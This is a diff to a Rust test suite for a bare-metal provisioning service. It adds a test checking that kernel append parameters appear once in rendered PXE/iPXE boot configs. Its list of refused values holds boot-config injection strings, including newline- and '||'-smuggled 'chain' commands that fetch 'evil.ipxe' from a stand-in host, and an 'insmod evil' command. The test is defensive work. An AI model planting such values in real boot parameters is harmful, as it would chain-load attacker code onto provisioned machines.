@@ -384,6 +384,63 @@ async fn kernel_and_ramdisk_sources_are_limited_to_the_allowed_paths() {
     assert!(!env.tftp(&format!("{NODE}/deploy_kernel")).exists());
 }
 
+#[tokio::test]
+async fn kernel_append_params_are_rendered_once_and_cannot_inject() {
+    let env = Env::new();
+    // The engine's path: the agent's parameters, then the boot interface
+    // adds the node's own in front, once.
+    for (interface, mode, path) in [
+        ("ipxe", "uefi", env.http(&format!("{NODE}/config"))),
+        ("pxe", "uefi", env.tftp(&format!("{NODE}/config"))),
+        ("pxe", "bios", env.tftp(&format!("{NODE}/config"))),
+    ] {
+        let mut node = env.node(NODE, interface, mode);
+        node["driver_info"]["kernel_append_params"] = json!("%default% console=ttyS7");
+        let agent_params = ferrite_conductor::deploy::kernel_params(&env.config, &node);
+        boot::prepare_ramdisk(&env.config, &node, &[port(MAC)], &agent_params)
+            .await
+            .expect("prepare");
+        let rendered = read(&path);
+        let deploy_line = rendered
+            .lines()
+            .find(|l| l.contains("selinux=0"))
+            .unwrap_or_default()
+            .to_string();
+        assert_eq!(
+            deploy_line.matches("console=ttyS7").count(),
+            1,
+            "{interface}/{mode}: {deploy_line}"
+        );
+        assert_eq!(deploy_line.matches("nofb").count(), 1, "{deploy_line}");
+        assert_eq!(
+            deploy_line.matches("ipa-api-url=").count(),
+            1,
+            "{deploy_line}"
+        );
+    }
+    // Values that would end the line or mean something to iPXE or grub
+    // are refused before anything is written.
+    for bad in [
+        "console=ttyS0\nchain http://198.51.100.1/evil.ipxe",
+        "console=ttyS0\r\nshell",
+        "quiet || chain http://198.51.100.1/evil.ipxe",
+        "quiet ; insmod evil",
+        "x=${netX/ip}",
+    ] {
+        let other = "2be26c0b-03f2-4d2e-ae87-c02d7f33c124";
+        let mut node = env.node(other, "ipxe", "uefi");
+        node["driver_info"]["kernel_append_params"] = json!(bad);
+        let err = boot::prepare_ramdisk(&env.config, &node, &[port("52:54:00:ab:cd:09")], "")
+            .await
+            .expect_err(bad);
+        assert!(err.contains("kernel_append_params"), "{err}");
+        assert!(!env.http(&format!("{other}/config")).exists(), "{bad}");
+        // Node validation reports it too.
+        let info = node["driver_info"].as_object().cloned().unwrap_or_default();
+        assert!(boot::validate_driver_info(&info).is_err(), "{bad}");
+    }
+}
+
 // ---- TFTP ----
 
 async fn tftp_server(root: &Path) -> tftp::TftpServer {
@@ -393,6 +450,7 @@ async fn tftp_server(root: &Path) -> tftp::TftpServer {
         tftp::TftpOptions {
             timeout: Duration::from_millis(300),
             retries: 3,
+            ..tftp::TftpOptions::default()
         },
     )
     .await
